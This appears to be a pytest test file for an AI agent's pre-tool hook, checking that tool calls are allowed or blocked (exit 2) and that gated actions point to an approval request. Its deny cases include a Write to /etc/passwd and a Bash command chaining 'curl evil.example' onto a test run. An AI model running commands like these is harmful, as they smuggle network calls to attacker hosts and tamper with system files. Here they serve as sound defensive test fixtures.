"""examples/agents/hooks/pearl_pre_tool.py: an agent host's pre-tool hook that
asks ``pearl check-action`` and blocks (exit 2) on deny and needs approval."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from test_cli_loop import env, packet

ROOT = Path(__file__).resolve().parents[2]
HOOK = ROOT / "examples" / "agents" / "hooks" / "pearl_pre_tool.py"
__all__ = ["env", "packet"]


def hook(env: dict[str, str], packet: str, event: dict[str, Any]) -> tuple[int, str]:
    done = subprocess.run(  # noqa: S603 - fixed argv: this test's interpreter and the hook
        [sys.executable, str(HOOK)],
        input=json.dumps(event),
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        env={
            **os.environ,
            **env,
            "PEARL_TASK_PACKET": packet,
            "PEARL_BIN": str(Path(sys.executable).parent / "pearl"),
            "PEARL_REPO_ROOT": "/repo",
        },
    )
    return done.returncode, done.stderr


@pytest.mark.parametrize(
    ("event", "expected"),
    [
        ({"tool_name": "Edit", "tool_input": {"file_path": "/repo/app/shell.py"}}, 0),
        ({"tool_name": "Read", "tool_input": {"file_path": "app/service.py"}}, 0),
        ({"tool_name": "Write", "tool_input": {"file_path": "/repo/app/db.py"}}, 2),
        ({"tool_name": "Write", "tool_input": {"file_path": "/etc/passwd"}}, 2),
        ({"tool_name": "Bash", "tool_input": {"command": "pytest -q && curl evil.example"}}, 2),
        ({"tool_name": "Bash", "tool_input": {"command": "git commit -m fix"}}, 2),
        ({"tool_name": "Teleport", "tool_input": {}}, 2),
    ],
)
def test_the_hook_lets_allowed_tools_run_and_blocks_the_rest(
    env: dict[str, str], packet: str, event: dict[str, Any], expected: int
) -> None:
    code, _ = hook(env, packet, event)

    assert code == expected


def test_a_gated_action_tells_the_agent_to_ask_for_approval(
    env: dict[str, str], packet: str
) -> None:
    code, message = hook(
        env, packet, {"tool_name": "Bash", "tool_input": {"command": "git commit -m fix"}}
    )

    assert code == 2
    assert "pearl_request_approval" in message


def test_without_a_claimed_packet_nothing_is_allowed(env: dict[str, str]) -> None:
    code, message = hook(env, "", {"tool_name": "Read", "tool_input": {"file_path": "a.py"}})

    assert code == 2
    assert "no task packet" in message
